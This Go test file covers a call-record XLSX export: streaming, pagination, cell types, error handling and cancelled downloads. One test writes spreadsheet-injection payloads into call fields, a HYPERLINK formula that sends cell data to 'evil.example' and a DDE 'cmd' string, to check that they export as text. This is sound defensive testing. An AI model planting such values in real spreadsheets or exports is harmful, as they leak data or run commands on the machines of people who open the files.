package handlers_test

import (
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"mime"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"dialdesk/client"
	"dialdesk/internal/testapp"
	"dialdesk/store"
)

// pageHook runs before each query_done_task_phones request reaches the
// platform, with the page asked for; an error it returns fails the request
// as a broken connection would.
type pageHook func(page int, r *http.Request) error

func (h pageHook) RoundTrip(r *http.Request) (*http.Response, error) {
	if strings.HasSuffix(r.URL.Path, "/v1/task/query_done_task_phones") && r.Body != nil {
		b, _ := io.ReadAll(r.Body)
		r.Body = io.NopCloser(bytes.NewReader(b))
		var q struct{ Page int }
		if err := json.Unmarshal(b, &q); err != nil {
			return nil, fmt.Errorf("pageHook: the client sent no JSON: %w", err)
		}
		if err := h(q.Page, r); err != nil {
			return nil, err
		}
	}
	return http.DefaultTransport.RoundTrip(r)
}

func hookedApp(t *testing.T, h pageHook, opts ...client.Option) *testapp.App {
	t.Helper()
	return testapp.New(t, testapp.Options{SandboxNow: seededAfternoon, ClientOptions: append([]client.Option{
		client.WithHTTPClient(&http.Client{Transport: h, Timeout: 30 * time.Second})}, opts...)})
}

// seededAfternoon is the sandbox's clock for these tests: 15:00 in Shanghai
// today, so that the seeded world has the same calls (pages) whatever the
// hour the tests run at; late in the evening its calling hours are over
// and the busiest task has fewer pages than they need.
func seededAfternoon() time.Time {
	cst := time.FixedZone("CST", 8*3600)
	y, m, d := time.Now().In(cst).Date()
	return time.Date(y, m, d, 15, 0, 0, 0, cst)
}

// allRecords pages through the platform as the export should.
func allRecords(t *testing.T, app *testapp.App, q client.RecordQuery) []client.Record {
	t.Helper()
	var recs []client.Record
	for q.Page = 1; ; q.Page++ {
		p, err := app.Client.QueryDoneTaskPhones(t.Context(), q)
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, p.Records...)
		if q.Page >= p.LastPage || len(p.Records) == 0 {
			return recs
		}
	}
}

// xlsxRows opens an export with excelize and returns its rows, each padded
// to the header's width.
func xlsxRows(t *testing.T, body string) (*excelize.File, [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatalf("the export does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for len(rows[i]) < len(rows[0]) {
			rows[i] = append(rows[i], "")
		}
	}
	return f, rows
}

// TestExportStreamAllPages: the streamed file opens and holds exactly the
// filtered list, every page of it, every column, in the list's order.
func TestExportStreamAllPages(t *testing.T) {
	app := testapp.New(t, testapp.Options{SandboxNow: seededAfternoon})
	app.RememberSandboxTasks(t)
	id, _ := busyTask(t, app)
	want := allRecords(t, app, client.RecordQuery{TaskID: id, Keyword: "0"})
	if len(want) <= 2*client.PageSize {
		t.Fatalf("the filter keeps %d calls, want more than two pages", len(want))
	}
	c := app.Login(t, store.RoleSupervisor)
	res, body := app.Get(t, c, "/tasks/"+id+"/calls/export.xlsx?q=0")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d", res.StatusCode)
	}
	f, rows := xlsxRows(t, body)
	header := []string{"号码", "拨打时间", "通话时长（秒）", "对话轮次", "得分", "意向等级", "标签", "挂断方", "主叫号码", "已复核"}
	if len(rows[0]) != len(header) {
		t.Errorf("header %q, want %d columns", rows[0], len(header))
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("export has %d rows, want %d calls + header", len(rows), len(want))
	}
	sheet := f.GetSheetName(0)
	for i, rec := range want {
		row := rows[i+1]
		level := rec.LevelName
		if rec.Level != nil && rec.Level.Name != "" {
			level = rec.Level.Name
			if rec.Level.Alias != "" {
				level += "(" + rec.Level.Alias + ")"
			}
		}
		var tags []string
		for _, tg := range rec.Tags {
			tags = append(tags, tg.Name)
		}
		got := []string{row[0], row[2], row[3], row[4], row[5], row[6], row[8]}
		exp := []string{string(rec.Callee), strconv.FormatInt((int64(rec.Bill)+500)/1000, 10), strconv.Itoa(int(rec.Rounds)),
			strconv.Itoa(int(rec.Score)), level, strings.Join(tags, "、"), string(rec.CallerNumber)}
		if fmt.Sprint(got) != fmt.Sprint(exp) {
			t.Errorf("row %d: %q, want %q", i+2, got, exp)
		}
		if !strings.HasPrefix(row[1], rec.CallDate.In(app.Config.Location).Format("2006-01-02")) {
			t.Errorf("row %d time %q, record %s", i+2, row[1], rec.CallDate)
		}
	}
	// Phones stay text (the caller's leading 0), talk time is a number.
	for cell, text := range map[string]bool{"A2": true, "I2": true, "C2": false, "E2": false} {
		typ, _ := f.GetCellType(sheet, cell)
		if isText := typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString; isText != text {
			t.Errorf("%s: cell type %v, want text %v", cell, typ, text)
		}
	}
	if !strings.HasPrefix(rows[1][8], "0") {
		t.Errorf("caller %q lost its leading 0", rows[1][8])
	}
	// The attachment: an ASCII name and the task's name in UTF-8.
	cd := res.Header.Get("Content-Disposition")
	if !strings.Contains(cd, `filename="calls-`+id+`-`) || !strings.Contains(cd, "filename*=UTF-8''") {
		t.Errorf("Content-Disposition %q", cd)
	}
	if _, params, err := mime.ParseMediaType(cd); err != nil || !strings.Contains(params["filename"], "通话记录") || !strings.HasSuffix(params["filename"], ".xlsx") {
		t.Errorf("Content-Disposition %q: UTF-8 name %q (%v)", cd, params["filename"], err)
	}
}

// TestExportStreamSurfaceAValues: on surface A the stored calls, filtered in
// SQLite, page after page; values come out as they were pushed: leading
// zeros, Chinese, formula-like text as text.
func TestExportStreamSurfaceAValues(t *testing.T) {
	app := testapp.New(t, testapp.Options{SurfaceAOnly: true})
	app.RememberSandboxTasks(t)
	task := app.Sandbox.TaskIDs()[0]
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"open")`
	start := time.Date(2024, 5, 1, 9, 0, 0, 0, app.Config.Location)
	want := map[string][]string{} // tel → row
	for i := range 44 {
		tel := fmt.Sprintf("0102000%04d", i)
		if i >= 41 { // three calls the filter leaves out
			tel = fmt.Sprintf("1390000%04d", i)
		}
		at := start.Add(time.Duration(i) * time.Minute)
		secPushCall(t, app, task, map[string]any{"callid": fmt.Sprintf("exp%03d", i), "tel": tel, "caller": formula,
			"intention_name": []string{"高意向", "+cmd|' /C calc'!A0"}, "start_time": at.UnixMilli(), "answer_time": at.UnixMilli() + 1000,
			"fee_duration": 1000 * (i + 1), "status": 2}, "你好", "嗯")
		if i < 41 {
			want[tel] = []string{tel, at.Format("2006-01-02 15:04"), strconv.Itoa(i + 1), "高意向、+cmd|' /C calc'!A0", formula}
		}
	}
	c := app.Login(t, store.RoleSupervisor)
	res, body := app.Get(t, c, "/tasks/"+task+"/calls/export.xlsx?q=0102000&t=surfa")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d", res.StatusCode)
	}
	f, rows := xlsxRows(t, body)
	if len(rows) != len(want)+1 {
		t.Fatalf("export has %d rows, want %d calls + header", len(rows), len(want))
	}
	// Columns: callee, time, talk time, status, intention, rounds, caller, reviewed.
	sheet := f.GetSheetName(0)
	for i, row := range rows[1:] {
		got := []string{row[0], row[1], row[2], row[4], row[6]}
		if exp, ok := want[row[0]]; !ok || fmt.Sprint(got) != fmt.Sprint(exp) {
			t.Errorf("row %d: %q, want %q", i+2, got, exp)
		}
		delete(want, row[0])
		cell := "G" + strconv.Itoa(i+2)
		if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
			t.Errorf("%s is a formula %q", cell, fm)
		}
	}
	if len(want) != 0 {
		t.Errorf("calls missing from the export: %v", want)
	}
	_, p := app.Get(t, c, "/tasks/"+task+"/calls/export-progress?t=surfa")
	if p != `{"rows":41,"total":41,"done":true}` {
		t.Errorf("progress %s", p)
	}
}

// partialSheet decodes as much of the sheet's XML as a partly received
// export holds (the zip is not complete, so no zip reader can open it).
func partialSheet(b []byte) []byte {
	const name = "xl/worksheets/sheet1.xml"
	for off := 0; ; {
		i := bytes.Index(b[off:], []byte(name))
		if i < 0 {
			return nil
		}
		i += off
		off = i + 1
		if i < 30 || binary.LittleEndian.Uint32(b[i-30:]) != 0x04034b50 {
			continue
		}
		extra := int(binary.LittleEndian.Uint16(b[i-2:]))
		if len(b) < i+len(name)+extra {
			return nil
		}
		out, _ := io.ReadAll(flate.NewReader(bytes.NewReader(b[i+len(name)+extra:])))
		return out
	}
}

// TestExportStreamStartsEarly: the first rows reach the browser while the
// platform still holds page 3; the rest follows once it answers.
func TestExportStreamStartsEarly(t *testing.T) {
	release := make(chan struct{})
	var held, timedOut atomic.Bool
	app := hookedApp(t, func(page int, r *http.Request) error {
		if page == 3 {
			held.Store(true)
			select {
			case <-release:
			case <-time.After(10 * time.Second):
				timedOut.Store(true)
			}
		}
		return nil
	})
	app.RememberSandboxTasks(t)
	id, first := busyTask(t, app)
	if first.LastPage < 4 {
		t.Fatalf("%d pages, want at least 4", first.LastPage)
	}
	c := app.Login(t, store.RoleSupervisor)
	res, err := c.Get(app.URL + "/tasks/" + id + "/calls/export.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d", res.StatusCode)
	}
	var got []byte
	buf := make([]byte, 512)
	callee := []byte(string(first.Records[0].Callee))
	for !bytes.Contains(partialSheet(got), callee) {
		n, err := res.Body.Read(buf)
		got = append(got, buf[:n]...)
		if err != nil {
			t.Fatalf("after %d bytes: %v", len(got), err)
		}
	}
	if timedOut.Load() {
		t.Fatal("the first rows reached the client only after page 3 was answered")
	}
	t.Logf("page 1's rows arrived in the first %d bytes, page 3 held: %v", len(got), held.Load())
	close(release)
	rest, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	_, rows := xlsxRows(t, string(append(got, rest...)))
	if len(rows) != first.Total+1 {
		t.Errorf("%d rows, want %d calls + header", len(rows), first.Total)
	}
}

// syncBuffer is a log sink safe for the server's goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestExportStreamAbortsMidway: the platform failing after the file has
// started aborts the download: the browser gets an error, not a valid file
// missing calls; the failure is logged; the export slot is given back.
func TestExportStreamAbortsMidway(t *testing.T) {
	var failing atomic.Bool
	failing.Store(true)
	var logs syncBuffer
	app := testapp.New(t, testapp.Options{
		Logger: slog.New(slog.NewTextHandler(&logs, nil)),
		ClientOptions: []client.Option{client.WithRetries(0), client.WithHTTPClient(&http.Client{Timeout: 30 * time.Second,
			Transport: pageHook(func(page int, r *http.Request) error {
				if page == 3 && failing.Load() {
					return errors.New("connection reset by platform")
				}
				return nil
			})})},
	})
	app.RememberSandboxTasks(t)
	id, first := busyTask(t, app)
	c := app.Login(t, store.RoleSupervisor)
	path := "/tasks/" + id + "/calls/export.xlsx?t=broken"
	for range 3 { // more than the concurrent-export limit: each failure frees its slot
		res, err := c.Get(app.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		if res.StatusCode != http.StatusOK {
			t.Fatalf("export: %d, want 200 (the failure comes after the start)", res.StatusCode)
		}
		body, err := io.ReadAll(res.Body)
		res.Body.Close()
		if err == nil {
			t.Fatalf("the download of %d bytes ended cleanly; want an error", len(body))
		}
		if _, err := excelize.OpenReader(bytes.NewReader(body)); err == nil {
			t.Error("the truncated download opens as a workbook")
		}
		if !bytes.Contains(partialSheet(body), []byte(string(first.Records[0].Callee))) {
			t.Error("page 1 was not streamed before the failure")
		}
	}
	if l := logs.String(); !strings.Contains(l, "export interrupted") || !strings.Contains(l, "rows=30") {
		t.Errorf("no log of the interrupted export:\n%s", l)
	}
	if _, p := app.Get(t, c, "/tasks/"+id+"/calls/export-progress?t=broken"); p != `{"rows":30,"total":`+strconv.Itoa(first.Total)+`,"done":true}` {
		t.Errorf("progress %s", p)
	}
	failing.Store(false)
	if res, body := app.Get(t, c, path); res.StatusCode != http.StatusOK {
		t.Errorf("export once the platform is back: %d", res.StatusCode)
	} else if _, rows := xlsxRows(t, body); len(rows) != first.Total+1 {
		t.Errorf("%d rows, want %d + header", len(rows), first.Total)
	}
}

// TestExportStreamFirstPageFails: a platform failure before anything was
// sent is the normal error page (502, in words), not a broken download;
// a forbidden export stays a 403 page.
func TestExportStreamFirstPageFails(t *testing.T) {
	var failing atomic.Bool
	app := hookedApp(t, func(page int, r *http.Request) error {
		if failing.Load() {
			return errors.New("connection refused")
		}
		return nil
	}, client.WithRetries(0))
	app.RememberSandboxTasks(t)
	id, _ := busyTask(t, app)
	c := app.Login(t, store.RoleSupervisor)
	failing.Store(true)
	res, body := app.Get(t, c, "/tasks/"+id+"/calls/export.xlsx")
	if res.StatusCode != http.StatusBadGateway || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") ||
		res.Header.Get("Content-Disposition") != "" {
		t.Errorf("platform down: %d %q %q", res.StatusCode, res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
	}
	if doc(t, body).Find("main, body").Text() == "" {
		t.Error("empty error page")
	}
	failing.Store(false)
	if err := app.Store.SetTaskCallSettings(t.Context(), id, store.TaskCallSettings{ExportStatus: client.ExportForbidden}); err != nil {
		t.Fatal(err)
	}
	res, body = app.Get(t, c, "/tasks/"+id+"/calls/export.xlsx")
	if res.StatusCode != http.StatusForbidden || !strings.Contains(body, "不允许导出") || res.Header.Get("Content-Disposition") != "" {
		t.Errorf("forbidden export: %d", res.StatusCode)
	}
}

// TestExportStreamOutlivesWriteTimeout: an export longer than the server's
// WriteTimeout completes: it moves its own write deadline page by page.
func TestExportStreamOutlivesWriteTimeout(t *testing.T) {
	app := hookedApp(t, func(page int, r *http.Request) error {
		if page > 1 {
			time.Sleep(150 * time.Millisecond)
		}
		return nil
	})
	app.RememberSandboxTasks(t)
	id, first := busyTask(t, app)
	if first.LastPage < 4 {
		t.Fatalf("%d pages, want at least 4", first.LastPage)
	}
	hs := httptest.NewUnstartedServer(app.HTTP.Config.Handler)
	hs.Config.WriteTimeout = 300 * time.Millisecond // the export takes 450 ms and more
	hs.Start()
	t.Cleanup(hs.Close)
	c := app.Login(t, store.RoleSupervisor) // the cookies hold for 127.0.0.1 whatever the port
	res, err := c.Get(hs.URL + "/tasks/" + id + "/calls/export.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(res.Body)
	res.Body.Close()
	if err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("export past WriteTimeout: %d, %d bytes, %v", res.StatusCode, len(body), err)
	}
	if _, rows := xlsxRows(t, string(body)); len(rows) != first.Total+1 {
		t.Errorf("%d rows, want %d + header", len(rows), first.Total)
	}
}

// TestExportStreamBrowserGoesAway: a download cancelled mid-way ends the
// export (the platform read is cancelled too) and gives its slot back, so
// cancelled downloads never lock exports out.
func TestExportStreamBrowserGoesAway(t *testing.T) {
	var held atomic.Int32
	app := hookedApp(t, func(page int, r *http.Request) error {
		if page == 2 {
			held.Add(1)
			<-r.Context().Done() // the platform stalls; only the cancellation ends it
			return r.Context().Err()
		}
		return nil
	})
	app.RememberSandboxTasks(t)
	id, first := busyTask(t, app)
	c := app.Login(t, store.RoleSupervisor)
	for i := range 3 { // one more than the concurrent-export limit
		ctx, cancel := context.WithCancel(t.Context())
		tok := "gone" + strconv.Itoa(i)
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, app.URL+"/tasks/"+id+"/calls/export.xlsx?t="+tok, nil)
		res, err := c.Do(req)
		if err != nil || res.StatusCode != http.StatusOK {
			t.Fatalf("export %d: %v %v", i, res, err)
		}
		var got []byte
		buf := make([]byte, 512)
		for !bytes.Contains(partialSheet(got), []byte(string(first.Records[0].Callee))) {
			n, err := res.Body.Read(buf)
			got = append(got, buf[:n]...)
			if err != nil {
				t.Fatalf("export %d after %d bytes: %v", i, len(got), err)
			}
		}
		cancel()
		res.Body.Close()
		deadline := time.Now().Add(5 * time.Second)
		for {
			if _, p := app.Get(t, c, "/tasks/"+id+"/calls/export-progress?t="+tok); strings.Contains(p, `"done":true`) {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("export %d still running after the browser went away", i)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	t.Logf("%d of 3 exports were held at the platform when the browser left", held.Load())
}
